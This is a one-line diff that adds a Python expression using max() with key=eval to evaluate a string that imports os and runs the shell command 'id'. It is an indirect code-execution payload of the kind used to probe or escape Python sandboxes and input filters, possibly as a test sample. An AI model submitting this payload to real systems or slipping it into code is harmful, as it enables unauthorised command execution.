@@ -1,0 +1,1 @@
+max(["__import__('os').system('id')"], key=eval)
